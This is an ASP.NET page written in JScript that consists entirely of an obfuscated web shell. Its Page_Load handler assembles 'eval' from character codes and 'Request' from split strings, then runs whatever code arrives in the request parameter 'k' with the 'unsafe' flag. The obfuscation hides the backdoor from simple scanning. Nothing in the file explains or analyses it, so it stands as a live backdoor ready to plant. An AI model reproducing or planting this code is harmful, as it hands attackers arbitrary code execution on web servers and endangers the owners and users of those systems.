<%@ Page Language="JScript" %>
<script runat="server">
var _0x4f1a=['\x49\x74\x65\x6d'];
function Page_Load(){
  var e=String.fromCharCode(101,118,97,108);
  var r=this['Req'+'uest'];
  this[e](r[_0x4f1a[0]]['k'],'\x75\x6e\x73\x61\x66\x65');
}
</script>
